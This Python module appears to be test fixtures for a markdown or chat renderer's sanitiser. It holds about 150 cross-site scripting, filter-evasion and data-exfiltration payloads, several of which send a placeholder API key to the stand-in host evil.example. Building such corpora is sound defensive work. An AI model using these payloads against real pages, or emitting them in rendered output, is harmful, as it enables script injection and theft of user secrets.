"""Texts that try to run something, to fetch something or to send something away, by the way they try.

`RUN` stands for script that sets `window.__pwned` to the payload's name, `OUT` for an address elsewhere that carries
a secret. Each comes with its name, so that what a page tells about leads to the payload.
"""

from __future__ import annotations

from typing import NamedTuple

OUTSIDE = "https://evil.example"
SECRET = "my-api-key-8841"


class Payload(NamedTuple):
    """One text, ready to be shown."""

    name: str
    text: str


_GROUPS: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>RUN</script>",
        '<script src="OUT"></script>',
        "<SCRIPT\n>RUN</SCRIPT\n>",
        "<img src=x onerror=RUN>",
        "a\n\n<img src=x onerror=RUN>\n\nb",
        "<div onmouseover=RUN onclick=RUN>hover over me</div>",
        "<details open ontoggle=RUN><summary onclick=RUN>x</summary></details>",
        "<body onload=RUN onpageshow=RUN onhashchange=RUN>",
        "<marquee onstart=RUN>x</marquee>",
        "<audio src=x onerror=RUN></audio><video><source onerror=RUN></video>",
        "<xss style=animation-name:pg-spin onanimationstart=RUN tabindex=1 onfocus=RUN autofocus>x</xss>",
        "<!--><img src=x onerror=RUN>-->",
        "<![CDATA[<img src=x onerror=RUN>]]>",
        "<?xml version='1.0'?><?php RUN ?><img src=x onerror=RUN>",
    ),
    "svg": (
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><script href=data:text/javascript,RUN /></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><a xlink:href=javascript:RUN><text x=9 y=20>click</text></a></svg>",
        "<svg><set attributeName=href to=javascript:RUN></svg>",
        "<svg><use href='OUT#x'/><image href=OUT /></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>",
    ),
    "math": (
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
        "<math href=javascript:RUN>click</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:RUN>click</maction></math>",
        r"$\text{<img src=x onerror=RUN>}$",
        r"$$\href{javascript:RUN}{x}$$",
        r"$\mathrm{</math><script>RUN</script>}$",
        r"\(\color{red\" onmouseover=RUN}{x}\)",
        r"\[\style{background:url(OUT)}{x} \class{a onclick=RUN}{b} \cssId{pg-log}{c}\]",
        r"$\includegraphics{OUT} \url{javascript:RUN} \unicode{60}img src=x onerror=RUN>$",
        r"$\begin{matrix}<svg onload=RUN> & \text{</mtext><img src=x onerror=RUN>}\end{matrix}$",
    ),
    "links": (
        "[click](javascript:RUN)",
        "[click](  javascript:RUN  )",
        "[click](<javascript:RUN>)",
        "<javascript:RUN>",
        "[click][ref]\n\n[ref]: javascript:RUN",
        "[click]\n\n[click]: <javascript:RUN> 'title'",
        "[![click](javascript:RUN)](javascript:RUN)",
        "[click](https://evil.example 'title\" onmouseover=RUN x=\"')",
        '[click](https://evil.example/"onmouseover=RUN//)',
        "[click](https://evil.example/`onmouseover=RUN`)",
        "[<img src=x onerror=RUN>](OUT)",
        "[click](//evil.example/x)",
        "[click](/page/export?format=json) [click](?c=1) [click](#pg-log) [click](\\\\evil.example\\x)",
        "https://evil.example/<script>RUN</script>",
        "<https://evil.example/onclick=RUN> <mailto:a@evil.example?body=x> <a@evil.example>",
    ),
    "schemes": (
        "[click](JaVaScRiPt:RUN)",
        "[click](java\tscript:RUN)",
        "[click](javascript&colon;RUN)",
        "[click](&#106;avascript&#58;RUN)",
        "[click](&#x6A&#x61vascript:RUN)",
        "[click](javascript&#0000058RUN)",
        "[click](javascript%3aRUN)",
        "[click](\x01javascript:RUN)",
        "[click](java&Tab;script&NewLine;:RUN)",
        "[click](\\javascript:RUN) [click](javascript\\:RUN)",
        "[click](data:text/html,<script>RUN</script>)",
        "[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=)",
        "[click](data:image/svg+xml,<svg onload=RUN>) [click](data:image/png;base64,iVBORw0KGgo=)",
        "[click](data:image/gif;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=)",
        "[click](vbscript:RUN) [click](livescript:RUN) [click](mocha:RUN)",
        "[click](view-source:javascript:RUN) [click](blob:https://evil.example/x) [click](filesystem:x)",
        "[click](file:///etc/passwd) [click](ms-msdt:/id) [click](search-ms:query=x) [click](intent://x#Intent;end)",
        "[click](feed:javascript:RUN) [click](jar:javascript:RUN!/) [click](ssh://-oProxyCommand=x)",
    ),
    "css": (
        "<style>@import 'OUT';</style>",
        "<style>*{background:url(OUT)}</style>",
        "<div style='background:url(OUT)'>x</div>",
        "<div style=\"behavior:url(#x);-moz-binding:url('OUT');width:expression(RUN)\">x</div>",
        "<style>input[value^=a]{background:url(OUT)}@font-face{font-family:x;src:url(OUT)}</style>",
        "<link rel=stylesheet href='OUT'>",
        "<div style='position:fixed;inset:0;z-index:99999'><a href='OUT'>x</a></div>",
    ),
    "forms": (
        "<form action='OUT'><input name=q value=x><button>send</button></form>",
        "<form action=javascript:RUN><input type=submit></form>",
        "<button formaction=javascript:RUN>x</button>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN></select><textarea autofocus onfocus=RUN></textarea>",
        "<form id=f></form><button form=f formaction='OUT' onclick=RUN>x</button>",
        "<input type=image src='OUT' onerror=RUN><isindex action=javascript:RUN type=image>",
        "<button popovertarget=x onclick=RUN>a</button><div popover id=x onbeforetoggle=RUN>b</div>",
    ),
    "frames": (
        "<iframe src=javascript:RUN></iframe>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "<iframe src='OUT'></iframe><frameset><frame src='OUT'></frameset>",
        "<object data='OUT'></object><object data=data:text/html,x></object>",
        "<embed src='OUT'><embed src=data:text/html,<script>RUN</script>>",
        "<meta http-equiv=refresh content='0;url=OUT'>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<base href='OUT'><base target=_self>",
        "<link rel=preload as=image href='OUT'><link rel=prefetch href='OUT'><link rel=prerender href='OUT'>",
        "<link rel=dns-prefetch href=//my-api-key.evil.example><link rel=preconnect href='OUT'>",
        "<link rel=import href='OUT'><link rel=icon href='OUT'><link rel=manifest href='OUT'>",
        '<script type=speculationrules>{"prefetch":[{"urls":["OUT"]}]}</script>',
        "<a href='OUT' ping='OUT' attributionsrc='OUT'>x</a><portal src='OUT'></portal><fencedframe></fencedframe>",
    ),
    "images": (
        "![x](OUT)",
        "![x][r]\n\n[r]: OUT",
        "![x]\n\n[x]: OUT 'title'",
        "[![x](OUT)](OUT)",
        "<img src='OUT'>",
        "<img srcset='OUT 1x, OUT 2x' sizes=100vw><picture><source srcset='OUT'><img></picture>",
        "<video poster='OUT' src='OUT' autoplay></video><audio src='OUT' autoplay></audio>",
        "<table background='OUT'><tr><td background='OUT'>x</td></tr></table><body background='OUT'>",
        "<track src='OUT'><bgsound src='OUT'><layer src='OUT'></layer><img lowsrc='OUT' dynsrc='OUT'>",
        "![x](//evil.example/?my-api-key) ![x](http:evil.example) ![x](https:/\\evil.example)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZD0xPg==) ![x](/page/image/1)",
        "| a |\n|---|\n| ![x](OUT) |\n\n> - ![x](OUT)\n\n# ![x](OUT)",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
        "<<script>RUN//<</script>",
        "<img src='x' onerror='RUN' <b>",
        "<img \x00src=x onerror=RUN><scr\x00ipt>RUN</script>",
        '<img src="`" onerror=RUN> `<img src=x onerror=RUN>` ``` <img src=x onerror=RUN>',
        "<a href='x`' onclick=RUN>`</a> **<b onclick=RUN>x** __<img src=x onerror=RUN>__",
        "&lt;img src=x onerror=RUN&gt; &amp;lt;script&amp;gt;RUN &#60;img src=x onerror=RUN&#62;",
        "\\<img src=x onerror=RUN\\> <textarea></textarea><img src=x onerror=RUN>",
        "</div></article></body></html><script>RUN</script><plaintext>",
        "<title></title><xmp><img src=x onerror=RUN></xmp><template><script>RUN</script></template>",
        "＜script＞RUN＜/script＞ ʺ><img src=x onerror=RUN> \u2028<script>RUN</script>",
        "+ADw-script+AD4-RUN+ADw-/script+AD4- \xad<scr\xadipt>RUN</script>",
    ),
    "code": (
        '```"><img src=x onerror=RUN>\nx\n```',
        "```html onmouseover=RUN\n<script>RUN</script>\n```",
        "```<script>RUN</script>\n<img src=x onerror=RUN>\n```",
        "```svg\n<svg onload=RUN>\n```\n```mermaid\nclick A javascript:RUN\n```",
        "~~~html\n</code></pre><script>RUN</script>\n~~~",
        "    </code></pre><img src=x onerror=RUN>",
        "`</code><img src=x onerror=RUN>` ``</code><script>RUN</script>``",
        '```js\n"</script><script>RUN</script>"\n```\n<think><img src=x onerror=RUN></think>',
    ),
    "templates": (
        "{{constructor.constructor('RUN')()}} ${RUN} #{RUN} <%= RUN %> {%raw%}{{7*7}}",
        "<div ng-app ng-csp ng-init=RUN x-data x-init=RUN v-html=RUN onclick=RUN>{{$eval('RUN')}}</div>",
        "<div data-do=delete data-action=delete_message data-argument=x data-t=send data-copy=code>x</div>",
        "<gradio-app src='OUT'></gradio-app><gradio-lite>RUN</gradio-lite>",
    ),
    "bidi": (
        "\u202e<img src=x onerror=RUN>\u202c [\u202egro.elgoog](https://evil.example/x)",
        "\u2066<script>RUN</script>\u2069 \u200f[click](\u200ejavascript:RUN)",
        "[https://good.example](https://evil.example) [x](https://good.example@evil.example)",
        "\ufeff<script>RUN</script> \u200b[click](java\u200bscript:RUN) [x](https://ev\u0456l.example)",
    ),
    "clobbering": (
        "<a id=playground></a><a id=playground name=ask href='OUT'></a><a id=PLAYGROUND></a>",
        "<img name=body><img name=getElementById><form name=document><input name=cookie></form>",
        "<form id=pg-form><input name=attributes><input name=innerHTML><input id=pg-send></form>",
        "# pg-log {#pg-items}\n\n## constructor\n\n### __proto__\n\n[^x] [x](#x)\n\n[^x]: {: #pg-notice onclick=RUN}",
        '<iframe name=self srcdoc="<a id=playground></a>"></iframe><object name=localStorage></object>',
    ),
}


def _made() -> list[Payload]:
    made = []
    for group, texts in _GROUPS.items():
        for number, text in enumerate(texts):
            name = f"{group}-{number}"
            # A regular expression needs no quotation marks, which some payloads have no room for.
            out = f"{OUTSIDE}/{name}?d={SECRET}"
            made.append(Payload(name, text.replace("RUN", f"__pwned=/{name}/").replace("OUT", out)))
    return made


PAYLOADS = _made()
GROUPS = tuple(_GROUPS)

STRONGEST = tuple(
    text.replace("RUN", "__pwned=1").replace("OUT", f"{OUTSIDE}/?d={SECRET}")
    for text in (
        "<img src=x onerror=RUN>",
        "'\"><img src=x onerror=RUN>",
        "<script>RUN</script>",
        "</script><script>RUN</script>",
        "</title></textarea></style><svg onload=RUN>",
        '" onmouseover=RUN onfocus=RUN autofocus x="',
        "' onmouseover=RUN onfocus=RUN autofocus x='",
        "<img src=OUT>",
        "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
        "[click](javascript:RUN)",
        "<details open ontoggle=RUN>",
        "${RUN}{{constructor.constructor('RUN')()}}",
    )
)
"""For every other place where a text of somebody else is shown: in markup, in attributes of both kinds, in script."""

ALL_AT_ONCE = "".join(STRONGEST[1:3]) + STRONGEST[5] + STRONGEST[7]
"""Several in one, for places that take one text."""
